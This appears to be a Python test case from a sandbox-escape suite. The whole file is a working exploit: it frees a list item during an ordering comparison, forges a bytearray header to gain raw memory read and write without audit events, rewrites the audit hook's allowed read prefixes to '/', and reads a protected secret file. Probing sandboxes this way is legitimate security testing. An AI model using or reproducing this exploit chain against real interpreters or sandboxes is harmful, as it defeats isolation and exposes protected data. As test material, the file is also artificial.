# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# A list's ordering comparison (`<`, `<=`, `>`, `>=`; CPython 3.11.7, gh-120298, fixed in 3.12 and later only) finds
# the first items that differ, then compares them again with the operator by borrowed references. The other list's
# item, whose type subclasses this one's, has its reflected `__gt__` asked first: it clears this list, whose reference
# to the item was the last one but that of its own frame, and answers NotImplemented, so the item is freed as the frame
# returns and the item's `__lt__` is asked next, with the freed item as `self`. There bytearray buffers of the item's
# block size take the freed block and write a bytearray header of the code's own where the item was (size 2**62, data
# at address 0): `self` reads and writes all memory, with no audit event. From there the hook's frozen read prefixes
# (the frame of a refusal it makes unreported hands them out) gain "/", and the secret file is read where the hook is
# what guards it. With the hook the comparison holds the items it compares (1); without it native code is assumed
# anyway (the forged bytearray, or a crash: 1).
import contextlib
import operator
import os

HELD, HOLDERS = [], [bytearray() for _ in range(32)]  # the freed item, and the buffers that take its block


def words(*values):
    return b"".join(value.to_bytes(8, "little") for value in values)


# a 96-byte block: the collector's 16-byte header, then the header of a bytearray (refcount, type, size, room, data, start)
REFILL = (bytes(16) + words(1 << 20, id(bytearray), 1 << 62, (1 << 62) + 1, 0, 0, 0)).ljust(95, b"\0")


class Item:
    __slots__ = tuple("abcdefg")  # the header, 16 bytes, and 7 slots: a 96-byte block with the collector's header

    def __eq__(self, other):  # the items differ: the comparison asks the operator next
        return False

    def __lt__(self, other):
        if not HELD:
            HELD.append(self)
            for holder in HOLDERS:
                holder[:] = REFILL
        return False

    __hash__ = object.__hash__


class Value(Item):
    __slots__ = ()

    def __gt__(self, other):  # asked first: its type subclasses the item's
        LEFT.clear()  # the item's last reference but this frame's
        return NotImplemented


LEFT = [Item()]


def window():
    with contextlib.suppress(Exception):
        operator.lt(LEFT, [Value()])  # LEFT < [Value()]
    if HELD and type(HELD[0]) is bytearray and len(HELD[0]) == 1 << 62:
        return HELD[0]
    return None


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    memory = window()
    if memory is None or frame is None:  # no hook here: native code is assumed anyway
        return 1
    prefixes, root = frame.f_locals["read_prefixes"], "/"
    memory[id(prefixes) + 24:id(prefixes) + 32] = id(root).to_bytes(8, "little")  # the prefixes' first item
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED a list's item freed while its order compares: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through a list's item freed while its order compares"
